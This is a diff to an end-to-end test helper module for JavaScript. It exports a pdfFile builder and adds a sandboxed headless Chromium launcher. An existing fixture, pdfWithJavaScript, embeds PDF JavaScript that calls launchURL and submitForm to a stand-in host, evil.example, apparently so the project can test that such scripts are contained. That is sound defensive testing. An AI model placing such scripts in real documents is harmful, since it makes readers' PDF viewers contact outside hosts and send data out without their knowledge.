@@ -6,6 +6,7 @@ import fs from 'node:fs';
 import net from 'node:net';
 import path from 'node:path';
 import { fileURLToPath } from 'node:url';
+import { chromium } from 'playwright-core';
 
 export const E2E = path.dirname(fileURLToPath(import.meta.url));
 export const ROOT = path.dirname(E2E);
@@ -145,6 +146,12 @@ function pdfWithJavaScript() {
     "<< /S /JavaScript /JS (app.launchURL\\('http://evil.example/pdf-js', true\\); this.submitForm\\('http://evil.example/pdf-form'\\);) >>",
     '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
   ];
+  return pdfFile(objs);
+}
+
+/** A PDF file (a latin1 string) made of `objs`, numbered from 1 with object 1 the catalog;
+ *  `trailer` adds entries to the trailer dictionary (e.g. `/Info 8 0 R`). */
+export function pdfFile(objs, trailer = '') {
   let out = '%PDF-1.4\n';
   const offsets = [];
   objs.forEach((o, i) => {
@@ -154,8 +161,19 @@ function pdfWithJavaScript() {
   const xref = out.length;
   out += `xref\n0 ${objs.length + 1}\n0000000000 65535 f \n`;
   for (const o of offsets) out += `${String(o).padStart(10, '0')} 00000 n \n`;
-  out += `trailer\n<< /Size ${objs.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
+  out += `trailer\n<< /Size ${objs.length + 1} /Root 1 0 R${trailer ? ' ' + trailer : ''} >>\nstartxref\n${xref}\n%%EOF\n`;
   return out;
+}
+
+export const CHROMIUM = process.env.CHROMIUM ?? '/usr/bin/chromium';
+
+/** Debian's Chromium, headless, with everything that would reach out on its own switched off. */
+export function launchChromium() {
+  return chromium.launch({
+    executablePath: CHROMIUM,
+    headless: true,
+    args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run'],
+  });
 }
 
 /** The path of a command on PATH, or ''. */
